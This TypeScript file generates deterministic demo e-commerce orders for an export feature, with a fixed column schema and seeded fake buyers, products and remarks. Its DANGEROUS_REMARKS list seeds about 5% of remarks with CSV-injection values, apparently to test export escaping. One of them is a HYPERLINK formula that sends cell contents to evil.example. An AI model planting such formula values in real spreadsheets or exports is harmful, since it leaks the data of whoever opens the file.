import { DEMO_STORE_UNIT_IDS } from './demo-directory';
import { mulberry32 } from '../../domain/shared/prng';

/**
 * The demo shop's orders, generated rather than shipped. Every value of order #n comes from a PRNG
 * seeded with n alone, so a row is the same whichever batch, process or run generates it: a seed
 * can stop anywhere and resume from the highest id, and two engines seeded separately hold equal
 * data. Nothing here may read the clock or depend on how many orders are generated.
 */

/** The status dictionary (the `dict` of the order_export status column). */
export const ORDER_STATUS = {
  1: 'Paid',
  2: 'Shipped',
  3: 'Delivered',
  4: 'Refunded',
  5: 'Cancelled',
} as const;
export type OrderStatus = keyof typeof ORDER_STATUS;
export const ORDER_STATUS_CODES = Object.keys(ORDER_STATUS).map(Number) as OrderStatus[];

/** One order as stored and as read back: keys are the column names and the export column keys. */
export interface OrderRow {
  id: number;
  /** 19 digits: too long for a spreadsheet number (15 significant digits), so it must stay text. */
  order_no: string;
  /** ISO 8601 UTC with milliseconds; DATETIME(3) keeps exactly this precision. */
  created_at: string;
  paid_at: string | null;
  status: OrderStatus;
  buyer_name: string;
  buyer_phone: string;
  /** Exact decimal with two places, kept as text so no float ever touches money. */
  amount: string;
  currency: string;
  item_count: number;
  sku: string;
  product_name: string;
  shipping_city: string;
  unit_id: string;
  remark: string | null;
}

export type OrderColumnType = 'integer' | 'string' | 'decimal' | 'datetime';

export interface OrderColumn {
  key: keyof OrderRow;
  type: OrderColumnType;
  header: string;
  nullable: boolean;
}

/** Column keys and types, in table order, for the order_export biz type and the schema tests. */
export const ORDER_COLUMNS: readonly OrderColumn[] = [
  { key: 'id', type: 'integer', header: 'ID', nullable: false },
  { key: 'order_no', type: 'string', header: 'Order No', nullable: false },
  { key: 'created_at', type: 'datetime', header: 'Created At', nullable: false },
  { key: 'paid_at', type: 'datetime', header: 'Paid At', nullable: true },
  { key: 'status', type: 'integer', header: 'Status', nullable: false },
  { key: 'buyer_name', type: 'string', header: 'Buyer', nullable: false },
  { key: 'buyer_phone', type: 'string', header: 'Phone', nullable: false },
  { key: 'amount', type: 'decimal', header: 'Amount', nullable: false },
  { key: 'currency', type: 'string', header: 'Currency', nullable: false },
  { key: 'item_count', type: 'integer', header: 'Items', nullable: false },
  { key: 'sku', type: 'string', header: 'SKU', nullable: false },
  { key: 'product_name', type: 'string', header: 'Product', nullable: false },
  { key: 'shipping_city', type: 'string', header: 'City', nullable: false },
  { key: 'unit_id', type: 'string', header: 'Store', nullable: false },
  { key: 'remark', type: 'string', header: 'Remark', nullable: true },
];
export const ORDER_COLUMN_KEYS: readonly (keyof OrderRow)[] = ORDER_COLUMNS.map((c) => c.key);

/**
 * Orders fall in this fixed window. created_at = start + span · id / (id + K): increasing with id,
 * independent of the total, and bounded however many orders are generated (100k reach ~70 % of the
 * window, 1M ~96 %). Later orders are denser in time than a real shop's, an accepted price for
 * resumable generation.
 */
const WINDOW_START = Date.UTC(2024, 10, 1);
const WINDOW_SPAN = Date.UTC(2026, 10, 1) - WINDOW_START;
const TIME_K = 40_000;

/** The prefixes a spreadsheet would read as a formula or control character (OWASP CSV injection). */
export const DANGEROUS_REMARKS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click for refund")',
  '=1+1',
  '+1 gift wrap',
  '-5% coupon applied',
  '@ops check address',
  '\tleading tab from a pasted form',
  '\rcarriage return from an old client',
];
const DANGEROUS_RATE = 0.05;

const SURNAMES = [
  '王',
  '李',
  '张',
  '刘',
  '陈',
  '杨',
  '黄',
  '赵',
  '吴',
  '周',
  '徐',
  '孙',
  '马',
  '朱',
  '胡',
  '欧阳',
];
const GIVEN = [
  '伟',
  '芳',
  '娜',
  '敏',
  '静',
  '强',
  '磊',
  '洋',
  '艳',
  '勇',
  '军',
  '杰',
  '娟',
  '涛',
  '明',
  '秀英',
];
const LATIN_NAMES = ['Li Na', 'Wang Wei', 'Chen Jing', "Sean O'Brien", 'Zoë Müller', 'José García'];
const PHONE_PREFIXES = [
  '130', '131', '132', '133', '135', '136', '137', '138', '139', '150', '151', '152', '155', '158',
  '159', '166', '177', '186', '187', '188', '189', '198', '199',
]; // prettier-ignore

const PRODUCTS: readonly { sku: string; name: string; cents: [number, number] }[] = [
  { sku: '10001', name: '无线蓝牙耳机 Pro', cents: [19_900, 89_900] },
  { sku: '10002', name: 'Stainless Water Bottle 750ml', cents: [3_900, 12_900] },
  { sku: '10003', name: '儿童绘本套装（10册）', cents: [8_800, 19_800] },
  { sku: '10004', name: 'USB-C cable, 2 m "braided"', cents: [990, 4_990] },
  { sku: '10005', name: '有机绿茶 250g', cents: [4_500, 16_800] },
  { sku: '10006', name: 'Café latte beans 1kg', cents: [9_900, 25_900] },
  { sku: '10007', name: '机械键盘 87键 青轴', cents: [29_900, 129_900] },
  { sku: '10008', name: '🎧 Headphone stand', cents: [4_900, 9_900] },
  { sku: '10009', name: 'Running shoes / 跑步鞋', cents: [39_900, 139_900] },
  { sku: '10010', name: '保温饭盒 1.2L', cents: [5_900, 15_900] },
  { sku: '10011', name: 'Desk lamp LED', cents: [7_900, 29_900] },
  { sku: '10012', name: '真丝围巾', cents: [19_900, 59_900] },
  { sku: '10013', name: '智能手表 S3', cents: [99_900, 299_900] },
  { sku: '10014', name: 'Yoga mat 6mm', cents: [6_900, 19_900] },
  { sku: '10015', name: '手冲咖啡壶套装', cents: [12_900, 39_900] },
  { sku: '10016', name: '4K Monitor 27"', cents: [149_900, 499_900] },
];
const VARIANTS = ['BLK', 'WHT', 'RED', 'BLU', 'GRN', 'STD'];
const CITIES = [
  '上海',
  '杭州',
  '广州',
  '深圳',
  '北京',
  '成都',
  '南京',
  '苏州',
  '武汉',
  '西安',
  '重庆',
  '厦门',
];
const REMARKS = [
  '请尽快发货',
  '送货前请电话联系',
  'Leave at the door, please',
  '工作日送货',
  'Gift — no invoice in the box',
  '发票抬头：某某科技有限公司',
  'Call before delivery, gate code 1234#',
  '周末不在家，放快递柜',
  'Two-line note:\nsecond line here',
  'Fragile, handle with care',
];

/** Spreads neighbouring ids over the seed space, so order n and n+1 start unrelated streams. */
function seedFor(id: number): number {
  let h = Math.imul(id ^ 0x5bd1e995, 0x9e3779b1);
  h ^= h >>> 16;
  h = Math.imul(h, 0x85ebca6b);
  h ^= h >>> 13;
  return (h ^ Math.floor(id / 4294967296)) >>> 0;
}

const timeAt = (id: number): number => WINDOW_START + (WINDOW_SPAN * id) / (id + TIME_K);

const pad = (n: number, width: number) => String(n).padStart(width, '0');

const pick = <T>(rand: () => number, list: readonly T[]): T => list[Math.floor(rand() * list.length)];

/** Picks an index by weight; weights need not sum to 1. */
function weighted(rand: () => number, weights: readonly number[]): number {
  const total = weights.reduce((a, b) => a + b, 0);
  let r = rand() * total;
  for (let i = 0; i < weights.length; i++) {
    r -= weights[i];
    if (r < 0) return i;
  }
  return weights.length - 1;
}

const STATUS_WEIGHTS = [15, 15, 55, 7, 8]; // Paid, Shipped, Delivered, Refunded, Cancelled
const ITEM_COUNT_WEIGHTS = [60, 22, 10, 5, 3]; // 1..5 items

export const MAX_ORDER_ID = 99_999_999_999;

/** Order #id (1-based). Pure: the same id always yields a deep-equal row. */
export function generateOrder(id: number): OrderRow {
  if (!Number.isSafeInteger(id) || id < 1 || id > MAX_ORDER_ID) {
    throw new RangeError(`order id must be an integer from 1 to ${MAX_ORDER_ID}, got ${id}`);
  }
  const rand = mulberry32(seedFor(id));

  // Anywhere between this order's slot and the next one's: non-decreasing with id.
  const t0 = timeAt(id);
  const created = Math.floor(t0 + rand() * (timeAt(id + 1) - t0));
  const createdAt = new Date(created);

  const status = (weighted(rand, STATUS_WEIGHTS) + 1) as OrderStatus;
  // Most cancellations happen before payment; every other status implies a payment.
  const paidRoll = rand();
  const paid = status !== 5 || paidRoll < 0.3 ? created + 5_000 + Math.floor(rand() * 1_800_000) : null;

  const latin = rand() < 0.1;
  const buyerName = latin ? pick(rand, LATIN_NAMES) : pick(rand, SURNAMES) + pick(rand, GIVEN);
  const buyerPhone = pick(rand, PHONE_PREFIXES) + pad(Math.floor(rand() * 1e8), 8);

  const product = pick(rand, PRODUCTS);
  const itemCount = weighted(rand, ITEM_COUNT_WEIGHTS) + 1;
  const [lo, hi] = product.cents;
  const unitCents = lo + Math.floor(rand() * (hi - lo + 1));
  const cents = unitCents * itemCount;
  const currencyRoll = rand();
  const currency = currencyRoll < 0.95 ? 'CNY' : currencyRoll < 0.98 ? 'HKD' : 'USD';

  const remarkRoll = rand();
  const remarkPick = rand();
  let remark: string | null;
  if (remarkRoll < DANGEROUS_RATE) {
    remark = DANGEROUS_REMARKS[Math.floor(remarkPick * DANGEROUS_REMARKS.length)]!;
  } else if (remarkRoll < DANGEROUS_RATE + 0.02) remark = null;
  else if (remarkRoll < DANGEROUS_RATE + 0.04) remark = '';
  else remark = REMARKS[Math.floor(remarkPick * REMARKS.length)]!;

  const ymd =
    pad(createdAt.getUTCFullYear(), 4) + pad(createdAt.getUTCMonth() + 1, 2) + pad(createdAt.getUTCDate(), 2);
  return {
    id,
    order_no: ymd + pad(id, 11),
    created_at: createdAt.toISOString(),
    paid_at: paid === null ? null : new Date(paid).toISOString(),
    status,
    buyer_name: buyerName,
    buyer_phone: buyerPhone,
    amount: `${Math.floor(cents / 100)}.${pad(cents % 100, 2)}`,
    currency,
    item_count: itemCount,
    sku: `SKU-${product.sku}-${pick(rand, VARIANTS)}`,
    product_name: product.name,
    shipping_city: pick(rand, CITIES),
    unit_id: pick(rand, DEMO_STORE_UNIT_IDS),
    remark,
  };
}

/** Orders fromId..toId inclusive, in id order. */
export function generateOrders(fromId: number, toId: number): OrderRow[] {
  const rows: OrderRow[] = [];
  for (let id = fromId; id <= toId; id++) rows.push(generateOrder(id));
  return rows;
}
